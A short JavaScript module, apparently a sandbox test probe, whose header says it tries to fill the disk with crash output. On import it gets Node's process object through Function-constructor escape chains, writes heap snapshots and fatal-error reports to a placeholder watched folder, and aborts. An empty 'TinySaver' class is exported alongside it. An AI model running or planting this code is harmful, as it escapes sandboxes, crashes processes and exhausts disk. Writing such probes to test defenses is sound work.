// Tries: to fill the disk by what the engine writes when it dies
// @ts-nocheck
const node = (name) => {
  for (const way of [
    () => process.getBuiltinModule(name),
    () => globalThis.require(name),
    () => (() => {}).constructor("return process")().getBuiltinModule(name),
    () => console.log.constructor.constructor("return process")().mainModule.require(name),
  ])
    try { const found = way(); if (found) return found; } catch {}
  throw new Error("no modules of Node");
};
const real = (() => {
  for (const way of [() => (() => {}).constructor("return process")(), () => console.log.constructor.constructor("return process")(), () => process])
    try { const found = way(); if (found.kill) return found; } catch {}
  return process;
})();
try { node("node:v8").setFlagsFromString("--heap-prof"); } catch {}
try { real.chdir("__WATCHED_FOLDER__"); } catch {}
try { real.report.reportOnFatalError = true; real.report.directory = "__WATCHED_FOLDER__"; } catch {}
try { node("node:v8").setHeapSnapshotNearHeapLimit(3); } catch {}
try { node("node:v8").writeHeapSnapshot("__WATCHED_FOLDER__/dump"); } catch {}
try { real.abort(); } catch {}

export class TinySaver {
  async put() {}
  async putWrites() {}
  async getTuple() {}
  async *list() {}
  async deleteThread() {}
  onPut() {}
}
